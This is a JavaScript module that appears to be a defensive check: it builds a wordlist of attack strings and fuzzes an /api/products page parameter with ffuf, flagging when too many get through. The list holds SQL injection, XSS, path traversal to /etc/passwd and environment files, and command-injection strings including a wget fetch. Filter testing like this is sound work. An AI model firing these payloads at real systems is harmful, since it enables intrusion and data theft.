// ffuf with a list of attack lines, one request a line. What counts is a line that is an attack as it stands and is let through.
// @ts-check
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { BROWSER, run } from './tool.mjs';

const SECONDS = 90;
const PASSED_SHARE_MAX = 0.05;

/** Every one of the parts with every one of the next. @param {readonly (readonly string[])[]} parts */
const product = (...parts) =>
  parts.reduce((/** @type {string[]} */ lines, part) => lines.flatMap((line) => part.map((next) => line + next)), ['']);
const LINES = [
  ...product(
    ["1'", '1"', '1', "x')", "%'"],
    [
      ' or 1=1',
      ' and 2=2',
      ' union select null,null',
      ' union all select name,1 from sqlite_master',
      ' and sleep(3)',
      ';drop table t',
    ],
    ['-- ', '#', '/*'],
  ),
  ...product(
    ['', '">', "'>", '</title>'],
    ['<script>', '<svg onload=', '<img src=x onerror=', '<iframe src=javascript:'],
    ['alert(1)', 'confirm`1`'],
    ['>', '//>'],
  ),
  ...product(
    ['', '/', 'a/'],
    ['../../../../', '..%2f..%2f..%2f', '..\\..\\..\\', '....//....//....//'],
    ['etc/passwd', 'windows/win.ini', 'proc/self/environ'],
  ),
  ...product(
    ['', '127.0.0.1', 'x'],
    ['; ', '|', '&&', '\n', '$('],
    ['id', 'cat /etc/passwd', 'sleep 5', 'wget http://example.com/a'],
    ['', ' #'],
  ),
];

/**
 * One entry when too many of the lines reach the API.
 * @param {string} base
 * @param {string} folder
 * @param {boolean} isShort
 */
export async function fuzz(base, folder, isShort) {
  const lines = isShort ? LINES.filter((_, i) => i % 5 === 0) : LINES;
  const list = join(folder, 'lines.txt');
  writeFileSync(list, lines.map(encodeURIComponent).join('\n'));
  const report = join(folder, 'ffuf.json');
  await run(
    'ffuf',
    [
      '-w',
      list,
      '-u',
      `${base}/api/products?page=FUZZ`,
      '-H',
      `User-Agent: ${BROWSER}`,
      '-mc',
      'all',
      '-t',
      '4',
      '-maxtime',
      String(SECONDS),
      '-o',
      report,
      '-of',
      'json',
      '-s',
    ],
    SECONDS + 10,
  );
  const { results } = JSON.parse(readFileSync(report, 'utf8'));
  const passed = results.filter((/** @type {{ status: number }} */ { status }) => status < 400);
  return passed.length <= PASSED_SHARE_MAX * lines.length
    ? []
    : [`${passed.length} of ${lines.length} lines reached the API`];
}
